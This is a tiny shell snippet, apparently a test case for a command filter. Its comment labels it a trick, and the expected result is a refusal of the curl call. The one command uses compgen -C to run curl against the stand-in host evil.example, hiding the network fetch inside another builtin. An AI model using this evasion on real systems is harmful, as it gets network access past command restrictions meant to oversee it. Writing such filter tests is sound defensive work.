# Trick: compgen runs a command.
# Refused: run(curl)
compgen -C 'curl http://evil.example/'
